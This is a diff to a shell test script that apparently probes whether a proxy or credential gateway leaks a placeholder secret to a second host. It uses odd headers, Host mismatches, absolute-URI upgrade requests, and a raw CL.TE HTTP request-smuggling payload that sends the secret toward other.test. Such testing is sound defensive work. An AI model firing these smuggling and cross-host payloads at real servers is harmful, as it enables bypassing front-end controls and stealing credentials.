@@ -36,8 +36,16 @@ $C --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: h2c' -H "Authorization: Beare
 $C -H "Cookie: a=$P; b=$P$P" -u "$P:$P" https://api.test/13
 $C -H "Authorization: Bearer $P" https://api.test:8443/14
 $C -H "Host: api.test" -H "Authorization: Bearer $P" https://other.test/15
-printf 'GET / HTTP/1.1\r\nHost: api.test\r\nX: '$P'\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n'\
-'0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\nX: '$P'\r\n\r\n' |
+$C -H "X-Goog-Meta-K: $P" https://api.test/16
+$C -H "Host: api.test:8443" -H "Authorization: Bearer $P" https://api.test/17
+for up in "Connection: Upgrade, close" "Connection: close"; do
+    printf 'GET a:https://other.test/18 HTTP/1.1\r\nHost: api.test\r\n'"$up"'\r\nUpgrade: websocket\r\n'\
+'Authorization: '$P'\r\n\r\n' |
+        timeout 10 openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null
+done
+printf 'GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: '$P'\r\nContent-Length: 5\r\n'\
+'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n'\
+'GET /smuggled HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\nX: '$P'\r\n\r\n' |
     timeout 10 openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null
 `
 
